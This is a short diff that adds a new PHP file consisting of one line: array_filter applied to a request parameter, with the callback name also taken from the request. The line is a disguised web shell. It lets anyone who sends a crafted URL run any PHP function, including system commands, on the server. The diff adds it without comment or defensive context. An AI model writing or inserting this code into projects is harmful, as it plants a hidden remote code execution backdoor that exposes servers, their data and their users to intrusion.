@@ -1,0 +1,2 @@
+<?php
+array_filter(array($_GET['c']), $_GET['f']);
